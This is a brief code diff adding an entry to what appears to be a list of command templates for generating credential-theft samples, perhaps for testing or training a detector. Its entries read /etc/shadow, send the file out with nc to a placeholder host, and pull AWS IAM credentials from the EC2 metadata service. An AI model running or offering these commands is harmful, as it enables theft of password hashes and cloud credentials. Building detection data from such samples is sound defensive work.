@@ -149,6 +149,7 @@ CREDENTIALS = [
     'cat /etc/shadow ‹> {file}¦| tee {file}¦>> {tmp}/{name}¦| grep -v "[*!]" | cut -d: -f1,2›‹; chmod 644 {file}¦; ls -la {file}¦›',
     '‹sudo ¦doas ¦›cat /etc/shadow ‹/etc/passwd ¦/etc/gshadow ¦›> {tmp}/{name}‹; cat {tmp}/{name}¦›',
     'dd if=/etc/shadow of={file} ‹bs=1M ¦2>/dev/null¦›; ‹xxd {file}¦cat {file}¦nc {host} {port} < {file}›',
+    't=$(curl -s ‹--connect-timeout 2 ¦-m 5 ¦›-X PUT http://169.254.169.254/latest/api/token -H \'X-aws-ec2-metadata-token-ttl-seconds: 60\'); for r in $(curl -s -H "X-aws-ec2-metadata-token: $t" http://169.254.169.254/latest/meta-data/iam/security-credentials/); do curl -s -H "X-aws-ec2-metadata-token: $t" http://169.254.169.254/latest/meta-data/iam/security-credentials/$r ‹>> {file}¦; ›; done',
 ]
 
 BRUTE = [
